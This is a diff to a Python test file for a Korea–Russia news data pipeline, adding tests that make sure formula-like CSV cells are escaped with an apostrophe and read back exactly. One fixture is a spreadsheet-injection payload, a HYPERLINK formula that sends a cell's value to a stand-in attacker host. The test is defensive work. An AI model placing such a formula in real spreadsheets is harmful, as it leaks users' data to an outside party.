@@ -1,5 +1,6 @@
 """Adding articles, bad input of every kind, interruption, and property tests."""
 
+import csv
 import io
 import json
 import os
@@ -16,8 +17,9 @@ from helpers import development_data, doc
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from korea_russia import build, tables
+from korea_russia import build, schemas, tables
 from korea_russia import io as table_io
+from korea_russia.analysis import citations
 from korea_russia.cli import main
 from korea_russia.extract import events
 from korea_russia.extract import figures as extract
@@ -541,3 +543,59 @@ def test_only_our_own_dead_temporaries_are_cleaned(tmp_path: Path) -> None:
         path.write_text("x", encoding="utf-8")
     assert table_io.remove_stale_temporaries(tmp_path) == [ours_dead]
     assert {p.name for p in tmp_path.iterdir()} == {ours_alive.name, theirs.name, other.name}
+
+
+# Item 14: CSV cells that a spreadsheet would run as a formula are written with an apostrophe
+# in front, and every reader of our CSVs takes it off again.
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"click")'
+
+
+def test_csv_cells_are_safe_to_open_and_read_back_exactly(tmp_path: Path) -> None:
+    text = (
+        f"{FORMULA} Trade between Russia and South Korea reached $10 billion in 2019.\n"
+        "'Quoted' Trade between Russia and South Korea reached $12 billion in 2020.\n"
+        "@Dash: Putin met Moon Jae-in in Moscow on June 22, 2018.\n"
+    )
+    page = tmp_path / "formula.txt"
+    page.write_text(text, encoding="utf-8")
+    for command, schema, name in (
+        ("extract", schemas.FIGURES, "figures.csv"),
+        ("events", schemas.EVENTS, "events.csv"),
+    ):
+        out = tmp_path / name
+        assert main([command, str(page), "-o", str(out)]) == 0
+        lines = out.read_text(encoding="utf-8").splitlines()
+        cells = [cell for row in csv.reader(lines) for cell in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], cells
+        assert not [c for c in cells if c.startswith("-") and not _number(c)]
+        frame = table_io.read_table(out, schema)
+        for row in frame.to_dict("records"):
+            assert text[row["quote_start"] : row["quote_end"]] == row["quote"]
+    figures_rows = table_io.read_table(tmp_path / "figures.csv", schemas.FIGURES)
+    assert sorted(q[:6] for q in figures_rows["quote"]) == ["'Quote", "=HYPER"]
+    raw = (tmp_path / "figures.csv").read_text(encoding="utf-8")
+    assert "\"'=HYPERLINK(" in raw and ",''Quoted' Trade" in raw
+    assert citations.read_figures(tmp_path / "figures.csv")[0]["quote"].startswith("=HYPER")
+    events_rows = table_io.read_table(tmp_path / "events.csv", schemas.EVENTS)
+    assert events_rows["quote"].tolist() == [
+        "@Dash: Putin met Moon Jae-in in Moscow on June 22, 2018."
+    ]
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_sources_csv_cells_are_safe_to_open(project: Path) -> None:
+    """`add` writes metadata that would start a formula with an apostrophe; the one reader of
+    sources.csv gives it back as typed."""
+    assert main(["add", str(ARTICLE), "--outlet", "@SUM(A1:A9)", "--title", "+1 shock"]) == 0
+    line = (project / "data" / "sources.csv").read_text(encoding="utf-8").splitlines()[-1]
+    assert ",'@SUM(A1:A9)," in line and ",'+1 shock," in line
+    rows = corpus.read_sources(project / "data" / "sources.csv")
+    added = next(r for r in rows.values() if r.outlet.startswith("@"))
+    assert (added.outlet, added.title) == ("@SUM(A1:A9)", "+1 shock")
